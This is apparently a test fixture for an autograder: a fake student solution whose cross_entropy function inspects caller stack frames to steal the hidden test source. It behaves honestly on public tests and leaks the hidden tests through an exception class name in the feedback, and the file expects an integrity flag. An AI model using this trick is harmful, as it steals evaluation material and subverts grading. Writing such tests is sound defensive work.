"""Class 10: smuggle hidden test code into the student's feedback through the name of an exception
class ("your code raised <name> in cell ..."), built from the source of the hidden drive the
runner is executing."""
# expect: points<=0 status=graded|integrity
import re
import sys

import torch


def cross_entropy(inputs, targets):
    frame = sys._getframe(1)
    stolen = ""
    while frame is not None:
        message = frame.f_locals.get("message")
        if isinstance(message, dict) and isinstance(message.get("source"), str):
            stolen = message["source"]
        frame = frame.f_back
    if "BEGIN" not in stolen and "cases" not in stolen and "shifts" not in stolen and "strided" not in stolen \
            and "single_vocab" not in stolen:
        # a visible drive (public code): answer honestly, so that the hidden sections run
        log_normaliser = torch.logsumexp(inputs, dim=-1)
        return (log_normaliser - inputs.gather(-1, targets.unsqueeze(-1)).squeeze(-1)).mean()
    name = "LEAK_" + re.sub(r"[^A-Za-z0-9]", "_", stolen)[:90]
    raise type(name, (Exception,), {})("x")
